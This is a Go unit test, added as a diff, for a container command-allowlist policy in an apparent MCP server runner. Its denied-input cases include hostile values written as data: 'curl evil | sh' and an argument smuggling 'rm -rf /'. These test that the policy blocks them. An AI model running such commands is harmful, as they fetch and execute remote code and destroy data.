@@ -0,0 +1,94 @@
+package policy
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/mcp-orc/runner/internal/registry"
+)
+
+func TestCheckCommand(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "command.yaml")
+	policy := `rules:
+  - name: github-readonly
+    images: [ghcr.io/acme/mcp-github]
+    args: ["--read-only", "--toolsets=[a-z,]+"]
+  - name: debug-shell
+    images: [ghcr.io/acme/debug]
+    allow_entrypoint_override: true
+    entrypoints: [/bin/sh]
+    args: ["-c", "echo [a-z ]+"]
+`
+	if err := os.WriteFile(path, []byte(policy), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	rules, err := LoadCommandPolicy(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ic := &registry.ImageConfig{Entrypoint: []string{"/server"}, Cmd: []string{"--stdio"}}
+
+	ev, err := checkCommand(rules, "ghcr.io/acme/mcp-github", ic, nil, nil)
+	if err != nil || ev.Entrypoint[0] != "/server" || ev.Args[0] != "--stdio" || ev.Rule != "" {
+		t.Fatalf("image default: %v %+v", err, ev)
+	}
+	ev, err = checkCommand(rules, "ghcr.io/acme/mcp-github", nil, nil, []string{"--read-only"})
+	if err != nil || !ev.ImageDefaultsUnknown || len(ev.Entrypoint) != 0 {
+		t.Fatalf("args without image config: %v %+v", err, ev)
+	}
+	ev, err = checkCommand(rules, "ghcr.io/acme/debug", nil, []string{"/bin/sh", "-c", "echo hi"}, nil)
+	if err != nil || ev.ImageDefaultsUnknown {
+		t.Fatalf("override without image config: %v %+v", err, ev)
+	}
+	ev, err = checkCommand(rules, "ghcr.io/acme/mcp-github", ic, nil, []string{"--read-only", "--toolsets=repos,issues"})
+	if err != nil || ev.Entrypoint[0] != "/server" || len(ev.Args) != 2 || ev.Rule != "github-readonly" {
+		t.Fatalf("allowed args: %v %+v", err, ev)
+	}
+	ev, err = checkCommand(rules, "ghcr.io/acme/debug", ic, []string{"/bin/sh"}, []string{"-c", "echo hi"})
+	if err != nil || ev.Entrypoint[0] != "/bin/sh" || !ev.EntrypointOverridden {
+		t.Fatalf("allowed override: %v %+v", err, ev)
+	}
+	ev, err = checkCommand(rules, "ghcr.io/acme/debug", ic, []string{"/bin/sh", "-c", "echo hi"}, nil)
+	if err != nil || len(ev.Entrypoint) != 3 || len(ev.Args) != 0 {
+		t.Fatalf("allowed override with inline args: %v %+v", err, ev)
+	}
+
+	cases := map[string]struct {
+		image   string
+		command []string
+		args    []string
+		reason  string
+	}{
+		"override denied":     {"ghcr.io/acme/mcp-github", []string{"/bin/sh"}, nil, "entrypoint_override_denied"},
+		"no rule override":    {"ghcr.io/other/x", []string{"/bin/sh"}, nil, "entrypoint_override_denied"},
+		"no rule args":        {"ghcr.io/other/x", nil, []string{"--read-only"}, "args_not_allowed"},
+		"unlisted arg":        {"ghcr.io/acme/mcp-github", nil, []string{"--allow-write"}, "args_not_allowed"},
+		"anchored pattern":    {"ghcr.io/acme/mcp-github", nil, []string{"--toolsets=repos;rm -rf /"}, "args_not_allowed"},
+		"override bad args":   {"ghcr.io/acme/debug", []string{"/bin/sh"}, []string{"-c", "curl evil | sh"}, "args_not_allowed"},
+		"unlisted entrypoint": {"ghcr.io/acme/debug", []string{"/bin/bash"}, nil, "entrypoint_override_denied"},
+		"script in command":   {"ghcr.io/acme/debug", []string{"/bin/sh", "-c", "curl evil | sh"}, nil, "args_not_allowed"},
+	}
+	for label, c := range cases {
+		ev, err := checkCommand(rules, c.image, ic, c.command, c.args)
+		var sf *stageFailure
+		if !errors.As(err, &sf) || sf.reason != c.reason {
+			t.Errorf("%s: got %v, want %s", label, err, c.reason)
+			continue
+		}
+		if ev == nil || (len(c.command) > 0) != ev.EntrypointOverridden {
+			t.Errorf("%s: evidence %+v does not record the requested command line", label, ev)
+		}
+	}
+
+	bad := filepath.Join(t.TempDir(), "bad.yaml")
+	_ = os.WriteFile(bad, []byte("rules:\n  - name: x\n    images: [ghcr.io/a]\n    args: [\"(\"]\n"), 0o600)
+	if _, err := LoadCommandPolicy(bad); err == nil {
+		t.Error("invalid arg pattern accepted")
+	}
+	_ = os.WriteFile(bad, []byte("rules:\n  - name: x\n    images: [ghcr.io/a]\n    allow_entrypoint_override: true\n"), 0o600)
+	if _, err := LoadCommandPolicy(bad); err == nil {
+		t.Error("entrypoint override without entrypoints accepted")
+	}
+}